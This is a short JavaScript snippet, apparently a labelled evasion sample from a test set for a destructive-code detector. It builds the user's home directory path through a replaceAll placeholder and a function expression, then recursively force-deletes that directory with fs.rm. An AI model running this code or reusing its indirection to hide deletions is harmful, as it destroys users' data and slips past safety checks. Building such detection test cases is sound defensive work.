// evasion: a %HOME% placeholder expanded by replaceAll with a function expression returning process.env.HOME, then deleted
// grade: hard; does: delete
const fs = require("fs");
const dir = "%HOME%".replaceAll("%HOME%", function () {
  return process.env.HOME;
});
fs.rm(dir, { recursive: true, force: true }, () => {});
